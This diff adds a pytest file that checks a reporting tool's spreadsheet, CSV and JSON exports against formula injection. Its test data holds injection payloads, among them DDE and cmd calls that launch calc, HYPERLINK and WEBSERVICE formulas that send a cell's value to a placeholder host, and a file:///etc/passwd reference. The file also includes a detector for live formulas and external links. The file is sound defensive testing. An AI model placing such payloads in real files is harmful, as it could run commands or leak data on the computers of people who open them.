@@ -1,0 +1,162 @@
+"""Text goes out as text: nothing in any export runs when it is opened."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from datetime import date
+from itertools import product
+from pathlib import Path
+
+import pytest
+import xlsxwriter
+from openpyxl import load_workbook
+
+from impact.export import figures
+from impact.export.template import Given, TemplateIndicator, template
+from impact.ingest.returned import marked
+from impact.model.submission import Issue, IssueKind, Severity
+from impact.model.words import Language, Level, Measure
+from impact.views.figure_list import FIGURE_LIST_COLUMNS, FigureList
+from tests.ingest.packed import NO_OFFICE, OFFICE, parts, saved_by_office
+
+STARTS = (
+    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "＝", "＋", "－", "＠", "﹦",
+    "'=", '"=', "|=", ";=", "a;=", "a; +", "a\t=", "a\n@", 'a";=', "=-+", "{=", "%=",
+)  # fmt: skip
+BODIES = (
+    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
+    "WEBSERVICE(\"http://x.example/\"&A1)", "SUM(1)*cmd|'/C calc'!A0", "IMPORTXML(\"http://x.example\";\"//a\")",
+    "'file:///etc/passwd'#$x.A1",
+)  # fmt: skip
+PAYLOADS = tuple(start + body for start, body in product(STARTS, BODIES))
+SIGN = re.compile("[\\s\u200b\u2060\ufeff]*[=+\\-@＝＋－＠﹦﹢﹣﹫]")
+PERIOD = (date(2025, 1, 1), date(2025, 12, 31))
+
+
+def runs_in(data: bytes) -> list[str]:
+    """Whatever in a workbook would run, reach out or be worked out when it is opened."""
+    found = []
+    for name, content in parts(data).items():
+        if re.search(rb"<(?:\w+:)?f[\s>/]", content) and "worksheets/" in name:
+            found.append(f"{name}: a formula")
+        if re.search(r"externalLink|connections|vbaProject|activeX|oleObject", name):
+            found.append(name)
+        if b"<ddeLink" in content or (b"<definedName " in content and b"_xlnm." not in content):
+            found.append(f"{name}: a name")
+        if name.endswith(".rels") and b'TargetMode="External"' in content:
+            found.append(f"{name}: leads out")
+    for sheet in load_workbook(io.BytesIO(data)).worksheets:
+        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    return found
+
+
+def issues() -> tuple[Issue, ...]:
+    return tuple(
+        Issue(IssueKind.TEXT_FOR_NUMBER, Severity.QUESTION, "Cijfers", row, 2, payload)
+        for row, payload in enumerate(PAYLOADS, start=2)
+    )
+
+
+def marked_workbook() -> bytes:
+    stream = io.BytesIO()
+    with xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False}) as book:
+        sheet = book.add_worksheet("Cijfers")
+        for row, payload in enumerate(("Waarde", *PAYLOADS)):
+            sheet.write_string(row, 1, payload)
+    made = marked(stream.getvalue(), "m.xlsx", issues(), Language.NL)
+    assert made.kind == "marked"
+    return made.data
+
+
+def listed_workbook() -> bytes:
+    made = marked(b"no workbook", PAYLOADS[2] + ".ods", issues(), Language.FR)
+    assert made.kind == "list"
+    return made.data
+
+
+def a_template() -> bytes:
+    made = [
+        TemplateIndicator(
+            payload, payload, payload[:40], Measure.NUMBER, Level.OUTPUT, breakdowns=(payload,),
+            values={(PERIOD, ""): Given(payload, note=payload)},
+        )
+        for payload in PAYLOADS
+    ]  # fmt: skip
+    return template(Language.EN, PAYLOADS[0], made, (PERIOD,))
+
+
+def a_list() -> FigureList:
+    rows = tuple((payload, *([None] * (len(FIGURE_LIST_COLUMNS) - 2)), payload) for payload in PAYLOADS)
+    return FigureList(FIGURE_LIST_COLUMNS, rows)
+
+
+MADE = {
+    "marked": marked_workbook,
+    "list": listed_workbook,
+    "template": a_template,
+    "figures": lambda: figures.write(a_list(), "xlsx"),
+}
+
+
+def lists_and_validations_only(name: str, found: list[str]) -> list[str]:
+    """A template's own drop-downs are named ranges of ours; all else must not be there."""
+    return [item for item in found if not (name == "template" and item.endswith(": a name"))]
+
+
+@pytest.mark.parametrize("name", list(MADE))
+def test_no_export_holds_a_live_formula(name: str) -> None:
+    assert len(PAYLOADS) >= 200
+    data = MADE[name]()
+    assert lists_and_validations_only(name, runs_in(data)) == []
+    texts = {
+        cell.value for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows() for cell in row
+    }
+    # The texts are there, and nothing was left out to be safe.
+    kept = {re.sub(r"\s", "", str(value)) for value in texts if value}
+    assert sum(re.sub(r"\s", "", payload) in kept for payload in PAYLOADS) == len(PAYLOADS)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+def test_no_text_table_holds_a_cell_that_would_run_however_it_is_parted(delimiter: str) -> None:
+    words = figures.write(a_list(), "csv").decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(words), delimiter=delimiter) for cell in row]
+    assert len(cells) > len(PAYLOADS)
+    assert [cell for cell in cells if SIGN.match(cell)] == []
+
+
+@pytest.mark.skipif(OFFICE is None, reason=NO_OFFICE)
+def test_libreoffice_finds_no_formula_in_the_text_table(tmp_path: Path) -> None:
+    saved = saved_by_office(figures.write(a_list(), "csv"), tmp_path, "xlsx", source="in.csv")
+    assert runs_in(saved) == []
+
+
+def test_the_measure_finds_a_formula_where_there_is_one() -> None:
+    stream = io.BytesIO()
+    with xlsxwriter.Workbook(stream) as book:
+        book.add_worksheet().write_formula("A1", "=1+1")
+        book.get_worksheet_by_name("Sheet1").write_url("A2", "https://example.org")
+    assert len(runs_in(stream.getvalue())) == 3
+    assert SIGN.match("\ufeff =1")
+
+
+@pytest.mark.parametrize(("text", "written"), [
+    ("-4,423", "-4,423"), ("-", "-"), ("+12 %", "+12 %"), ("-5;-6", "'-5;'-6"), ("a; b - c", "a; b - c"),
+    ("meisjes; jongens", "meisjes; jongens"), ("=1", "'=1"), ("x;=1", "x;'=1"), ("＝1", "'＝1"),
+])  # fmt: skip
+def test_only_what_would_run_gets_an_apostrophe(text: str, written: str) -> None:
+    assert figures.plain(text) == written
+
+
+def test_broken_text_breaks_no_export() -> None:
+    words = "\ud800 \x00\x01 ]]> _x000D_ \ufffe"
+    rows = ((words, *([None] * (len(FIGURE_LIST_COLUMNS) - 1))),)
+    found = FigureList(FIGURE_LIST_COLUMNS, rows)
+    assert json.loads(figures.write(found, "json"))[0]["portfolio"].startswith("\ufffd ")
+    assert figures.write(found, "csv").decode("utf-8").count("]]>") == 1
+    with zipfile.ZipFile(io.BytesIO(figures.write(found, "xlsx"))) as archive:
+        assert archive.testzip() is None
+    assert load_workbook(io.BytesIO(figures.write(found, "xlsx"))).active["A2"].value
